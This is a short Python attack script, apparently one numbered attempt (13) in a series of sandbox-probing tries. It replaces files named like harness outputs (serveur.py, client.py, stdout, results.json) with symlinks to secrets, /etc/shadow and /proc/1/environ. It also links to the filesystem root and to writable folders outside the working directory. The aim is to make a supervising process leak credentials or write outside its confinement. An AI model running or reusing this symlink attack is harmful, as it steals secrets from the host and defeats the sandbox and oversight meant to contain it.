from attaque import *

serve()
targets = [*KNOWN.get("secrets", []), "/etc/shadow", "/proc/1/environ"]
for name in ("serveur.py", "client.py", "attaque.py", "stdout", "results.json", "result.json"):
    for target in targets:
        try:
            os.unlink(name)
        except OSError:
            pass
        os.symlink(target, name)
os.symlink("/", "racine")
os.symlink("boucle", "boucle")
for folder in KNOWN.get("writable", []):
    os.symlink(folder, f"dehors-{os.path.basename(folder)}")
tried(13, f"{len(os.listdir())} links")
